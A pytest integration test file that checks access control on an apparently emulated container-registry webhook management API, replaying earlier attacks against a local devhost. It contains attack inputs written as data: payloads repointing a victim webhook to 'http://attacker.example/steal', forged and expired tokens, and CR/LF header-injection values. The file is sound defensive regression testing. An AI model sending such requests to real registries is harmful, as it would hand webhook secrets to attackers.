"""Attacks on the management API (`/subscriptions/.../webhooks`), as they were found: over HTTP, against a
running devhost. Before the fix anyone could list, create, repoint, ping and delete the webhooks of any
registry with no credentials at all, and repointing a webhook handed its secret headers to the attacker.

Every refused call leaves the victim's webhook exactly as it was.
"""

from __future__ import annotations

import base64
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from services.management.access import assign_role, enable_admin_user
from services.management.registries import create_registry
from services.webhooks.resources import WebhookChanges, get_webhook, put_webhook
from services.webhooks.store import WebhookStore
from tests.conftest import Devhost
from tests.entra_issuer import TestIssuer
from tests.integration.conftest import Stores, unique_registry_name

pytestmark = pytest.mark.integration

API = "api-version=2025-11-01"
VICTIM_URI = "http://127.0.0.1:9/victim"  # nothing listens: a ping fails fast
SECRET = "Bearer victims-own-secret-token"


@dataclass(frozen=True)
class Scene:
    registry: str
    other: str
    admin_password: str
    owner: str  # object ids of principals with a role on `registry`
    reader: str
    pusher: str
    outsider: str  # Owner of `other`, nothing on `registry`

    def base(self, registry: str | None = None) -> str:
        return (
            "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/local-rg/providers/"
            f"Microsoft.ContainerRegistry/registries/{registry or self.registry}/webhooks"
        )


@pytest.fixture(scope="module")
async def scene(devhost: Devhost, stores: Stores, entra_issuer: TestIssuer) -> AsyncIterator[Scene]:
    registry, other = unique_registry_name(), unique_registry_name()
    for name in (registry, other):
        await create_registry(stores.metadata, stores.blobs, stores.settings, name, "Premium")
    admin = await enable_admin_user(stores.metadata, registry)
    owner, reader, pusher, outsider = (str(uuid.uuid4()) for _ in range(4))
    tenant = entra_issuer.tenant
    await assign_role(stores.metadata, registry, owner, "Owner", tenant=tenant)
    await assign_role(stores.metadata, registry, reader, "Reader", tenant=tenant)
    await assign_role(stores.metadata, registry, pusher, "AcrPush", tenant=tenant)
    await assign_role(stores.metadata, other, outsider, "Owner", tenant=tenant)
    changes = WebhookChanges(service_uri=VICTIM_URI, actions=["push"], custom_headers={"Authorization": SECRET})
    await put_webhook(stores.metadata, registry, "victimhook", changes)
    yield Scene(registry, other, admin[0].value, owner, reader, pusher, outsider)


def _attacks(scene: Scene) -> list[tuple[str, str, dict[str, object] | None]]:
    hook = f"{scene.base()}/victimhook"
    repoint = {"properties": {"serviceUri": "http://attacker.example/steal"}}
    create = {"location": "westeurope", "properties": {"serviceUri": "http://attacker.example/", "actions": ["push"]}}
    return [
        ("GET", f"{scene.base()}?{API}", None),
        ("GET", f"{hook}?{API}", None),
        ("PUT", f"{scene.base()}/attackerhook?{API}", create),
        ("PUT", f"{hook}?{API}", {"location": "westeurope", "properties": repoint["properties"]}),
        ("PATCH", f"{hook}?{API}", repoint),
        ("POST", f"{hook}/ping?{API}", None),
        ("POST", f"{hook}/listEvents?{API}", None),
        ("POST", f"{hook}/getCallbackConfig?{API}", None),
        ("DELETE", f"{hook}?{API}", None),
    ]


async def _victim_unchanged(stores: Stores, scene: Scene) -> None:
    doc = await get_webhook(stores.metadata, scene.registry, "victimhook")
    assert doc.serviceUri == VICTIM_URI
    assert doc.customHeaders == {"Authorization": SECRET}
    names = {d.name for d in await WebhookStore(stores.metadata).list_webhooks(scene.registry)}
    assert names == {"victimhook"}


async def _call(devhost: Devhost, method: str, path: str, body: dict[str, object] | None, auth: str) -> httpx.Response:
    headers = {"Authorization": auth} if auth else {}
    async with httpx.AsyncClient(timeout=30) as http:
        return await http.request(method, devhost.url + path, json=body, headers=headers)


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


async def test_without_credentials_nothing_is_served(devhost: Devhost, stores: Stores, scene: Scene) -> None:
    for method, path, body in _attacks(scene):
        reply = await _call(devhost, method, path, body, "")
        assert reply.status_code == 401, f"{method} {path}: {reply.status_code} {reply.text}"
        assert reply.json()["error"]["code"] == "AuthenticationFailed"
        assert reply.headers["WWW-Authenticate"].startswith("Bearer authorization_uri=")
        assert "victims-own-secret" not in reply.text and VICTIM_URI not in reply.text
    await _victim_unchanged(stores, scene)


async def test_credentials_that_are_not_management_tokens_are_refused(
    devhost: Devhost, stores: Stores, scene: Scene, entra_issuer: TestIssuer
) -> None:
    forger = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    port = devhost.host.rsplit(":", 1)[1]
    admin = _basic(scene.registry, scene.admin_password)
    async with httpx.AsyncClient(timeout=30) as http:
        reply = await http.get(
            f"{devhost.url}/oauth2/token",
            headers={"Host": f"{scene.registry}.azurecr.localhost:{port}", "Authorization": admin},
            params={"service": f"{scene.registry}.azurecr.localhost", "scope": "registry:catalog:*"},
        )
    acr_token = reply.json()["access_token"]
    wrong = {
        "admin user (Basic)": _basic(scene.registry, scene.admin_password),
        "the registry's own access token": f"Bearer {acr_token}",
        "Entra token for the data plane": "Bearer "
        + entra_issuer.token(scene.owner, audience="https://containerregistry.azure.net"),
        "forged signature": "Bearer " + entra_issuer.token(scene.owner, key=forger),
        "expired": "Bearer " + entra_issuer.token(scene.owner, lifetime=-3600),
        "garbage": "Bearer not-a-jwt",
        "another issuer": "Bearer " + TestIssuer(entra_issuer.tenant).token(scene.owner),
    }
    for what, auth in wrong.items():
        for method, path, body in _attacks(scene):
            reply = await _call(devhost, method, path, body, auth)
            assert reply.status_code == 401, f"{what}: {method} {path}: {reply.status_code} {reply.text}"
            assert reply.json()["error"]["code"] in ("AuthenticationFailed", "InvalidAuthenticationToken")
    await _victim_unchanged(stores, scene)


async def test_the_owner_of_another_registry_and_data_plane_roles_get_403(
    devhost: Devhost, stores: Stores, scene: Scene, entra_issuer: TestIssuer
) -> None:
    for principal in (scene.outsider, scene.pusher):
        auth = "Bearer " + entra_issuer.token(principal)
        for method, path, body in _attacks(scene):
            reply = await _call(devhost, method, path, body, auth)
            assert reply.status_code == 403, f"{method} {path}: {reply.status_code} {reply.text}"
            error = reply.json()["error"]
            assert error["code"] == "AuthorizationFailed" and principal in error["message"]
    # The outsider's own registry answers, so the token itself is good.
    outsider = "Bearer " + entra_issuer.token(scene.outsider)
    mine = await _call(devhost, "GET", f"{scene.base(scene.other)}?{API}", None, outsider)
    assert mine.status_code == 200 and mine.json() == {"value": []}
    await _victim_unchanged(stores, scene)


async def test_a_reader_reads_but_changes_nothing(
    devhost: Devhost, stores: Stores, scene: Scene, entra_issuer: TestIssuer
) -> None:
    auth = "Bearer " + entra_issuer.token(scene.reader)
    for method, path, body in _attacks(scene):
        reply = await _call(devhost, method, path, body, auth)
        expected = 200 if method == "GET" else 403
        assert reply.status_code == expected, f"{method} {path}: {reply.status_code} {reply.text}"
    await _victim_unchanged(stores, scene)


async def test_unknown_and_malformed_registries_do_not_tell_they_do_not_exist(
    devhost: Devhost, scene: Scene, entra_issuer: TestIssuer
) -> None:
    auth = "Bearer " + entra_issuer.token(scene.owner)
    for registry in (unique_registry_name(), "x" * 5000, "a..b", "UPPER%00case"):
        path = f"{scene.base(registry)}?{API}"
        assert (await _call(devhost, "GET", path, None, "")).status_code == 401
        reply = await _call(devhost, "GET", path, None, auth)
        assert reply.status_code == 403, reply.text
        assert reply.json()["error"]["code"] == "AuthorizationFailed"
        assert len(reply.text) < 2000  # a long name is not echoed back whole... nor anywhere near


async def test_the_owner_manages_the_webhook(devhost: Devhost, scene: Scene, entra_issuer: TestIssuer) -> None:
    auth = "Bearer " + entra_issuer.token(scene.owner)
    listed = await _call(devhost, "GET", f"{scene.base()}?{API}", None, auth)
    assert listed.status_code == 200 and [h["name"] for h in listed.json()["value"]] == ["victimhook"]
    config = await _call(devhost, "POST", f"{scene.base()}/victimhook/getCallbackConfig?{API}", None, auth)
    assert config.status_code == 200 and config.json()["serviceUri"] == VICTIM_URI
    assert "victims-own-secret" not in config.text
    ping = await _call(devhost, "POST", f"{scene.base()}/victimhook/ping?{API}", None, auth)
    assert ping.status_code == 200 and ping.json()["id"], ping.text


async def test_custom_headers_that_would_break_deliveries_are_refused_with_the_header_named(
    devhost: Devhost, stores: Stores, scene: Scene, entra_issuer: TestIssuer
) -> None:
    # Issue 8, item 8: CR/LF used to be accepted (every delivery then failed until dead-lettered) and Host,
    # Content-Length or Transfer-Encoding could replace the delivery's own.
    auth = "Bearer " + entra_issuer.token(scene.owner)
    url = f"{scene.base()}/headerhook?{API}"
    for headers, named in (
        ({"X-Evil": "a\r\nHost: attacker.example"}, "X-Evil"),
        ({"Host": "attacker.example"}, "Host"),
        ({"Content-Length": "0"}, "Content-Length"),
        ({"Transfer-Encoding": "chunked"}, "Transfer-Encoding"),
        ({"Bad Header": "v"}, "Bad Header"),
    ):
        body = {
            "location": "westeurope",
            "properties": {"serviceUri": VICTIM_URI, "actions": ["push"], "customHeaders": headers},
        }
        reply = await _call(devhost, "PUT", url, body, auth)
        assert reply.status_code == 400, reply.text
        assert named in reply.json()["error"]["message"]
        patch = await _call(
            devhost, "PATCH", f"{scene.base()}/victimhook?{API}", {"properties": body["properties"]}, auth
        )
        assert patch.status_code == 400, patch.text
    await _victim_unchanged(stores, scene)
